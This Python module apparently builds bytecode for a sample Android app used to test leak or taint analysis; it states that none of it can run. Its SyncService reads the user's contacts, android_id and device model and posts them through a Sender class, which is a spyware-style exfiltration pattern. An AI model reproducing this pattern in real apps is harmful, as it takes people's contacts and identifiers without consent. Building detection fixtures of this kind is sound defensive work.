"""What the code base reads of a phone, and the service that would hand it on. None of it can run (`codebase.py`)."""

from __future__ import annotations

from weftline_example.apk.dalvik import op
from weftline_example.apk.dex import Class
from weftline_example.apk.kit import Kit
from weftline_example.apk.phrases import (
    BUILDER,
    CONTEXT,
    CURSOR,
    INTENT,
    RESOLVER,
    SERVICE,
    STRING,
    URI,
    append,
    call,
    columns,
    each_row,
    init,
    joined,
    make,
    query,
    static,
    static_field,
    text,
    virtual,
)

_PHONES = "Landroid/provider/ContactsContract$CommonDataKinds$Phone;"


def book(kit: Kit) -> Class:
    """Reads names and numbers of the address book into one text."""
    take = (
        op("const/4", "v4", lit=0),
        *call("interface", CURSOR, "getString", ("I",), STRING, "v0", "v4", to="v5"),
        *append("v1", "v5"),
        text("v5", ","),
        *append("v1", "v5"),
        op("const/4", "v4", lit=1),
        *call("interface", CURSOR, "getString", ("I",), STRING, "v0", "v4", to="v5"),
        *append("v1", "v5"),
        text("v5", "\n"),
        *append("v1", "v5"),
    )
    return Class(
        kit.at("Book"),
        source="Book.java",
        methods=(
            static(
                "read",
                (CONTEXT,),
                STRING,
                8,
                call("virtual", CONTEXT, "getContentResolver", (), RESOLVER, "p0", to="v0"),
                static_field("v1", _PHONES, "CONTENT_URI", URI),
                columns("v2", ("v3", "v4"), "display_name", "data1"),
                query(0, to="v0"),
                make("v1", BUILDER),
                each_row("v0", "v3", take),
                call("interface", CURSOR, "close", (), "V", "v0"),
                joined("v1", "v2"),
                op("return-object", "v2"),
            ),
        ),
    )


def phone(kit: Kit) -> Class:
    """Says which phone this is."""
    secure = "Landroid/provider/Settings$Secure;"
    return Class(
        kit.at("Phone"),
        source="Phone.java",
        methods=(
            static(
                "id",
                (CONTEXT,),
                STRING,
                2,
                call("virtual", CONTEXT, "getContentResolver", (), RESOLVER, "p0", to="v0"),
                text("v1", "android_id"),
                call("static", secure, "getString", (RESOLVER, STRING), STRING, "v0", "v1", to="v0"),
                op("return-object", "v0"),
            ),
            static(
                "describe",
                (CONTEXT,),
                STRING,
                3,
                make("v0", BUILDER),
                text("v1", "device_id="),
                append("v0", "v1"),
                call("static", kit.at("Phone"), "id", (CONTEXT,), STRING, "p0", to="v1"),
                append("v0", "v1"),
                text("v1", "&model="),
                append("v0", "v1"),
                static_field("v1", "Landroid/os/Build;", "MODEL", STRING),
                append("v0", "v1"),
                text("v1", "&channel="),
                append("v0", "v1"),
                static_field("v1", kit.at("Config"), "CHANNEL", STRING),
                append("v0", "v1"),
                joined("v0", "v1"),
                op("return-object", "v1"),
            ),
        ),
    )


def album(kit: Kit) -> Class:
    """Counts pictures and only logs the count: a source without a way out."""
    media = "Landroid/provider/MediaStore$Images$Media;"
    return Class(
        kit.at("Album"),
        source="Album.java",
        methods=(
            static(
                "count",
                (CONTEXT,),
                "I",
                6,
                call("virtual", CONTEXT, "getContentResolver", (), RESOLVER, "p0", to="v0"),
                static_field("v1", media, "EXTERNAL_CONTENT_URI", URI),
                op("const/4", "v2", lit=0),
                query(0, to="v0"),
                call("interface", CURSOR, "getCount", (), "I", "v0", to="v1"),
                call("static", STRING, "valueOf", ("I",), STRING, "v1", to="v2"),
                text("v3", "album"),
                call("static", "Landroid/util/Log;", "d", (STRING, STRING), "I", "v3", "v2"),
                op("return", "v1"),
            ),
        ),
    )


def sync(kit: Kit) -> Class:
    """The service in which what was read meets the way out."""
    _, device, contacts, _, heart, _ = kit.paths()
    return Class(
        kit.at("SyncService"),
        SERVICE,
        source="SyncService.java",
        methods=(
            init(SERVICE),
            virtual(
                "onBind", (INTENT,), "Landroid/os/IBinder;", 1, op("const/4", "v0", lit=0), op("return-object", "v0")
            ),
            virtual(
                "onStartCommand",
                (INTENT, "I", "I"),
                "I",
                2,
                text("v0", device),
                call("static", kit.at("Phone"), "describe", (CONTEXT,), STRING, "p0", to="v1"),
                call("static", kit.at("Sender"), "post", (STRING, STRING), "I", "v0", "v1"),
                text("v0", contacts),
                call("static", kit.at("Book"), "read", (CONTEXT,), STRING, "p0", to="v1"),
                call("static", kit.at("Sender"), "post", (STRING, STRING), "I", "v0", "v1"),
                text("v0", heart),
                call("static", kit.at("Phone"), "id", (CONTEXT,), STRING, "p0", to="v1"),
                call("static", kit.at("Sender"), "post", (STRING, STRING), "I", "v0", "v1"),
                op("const/4", "v0", lit=1),
                op("return", "v0"),
            ),
        ),
    )
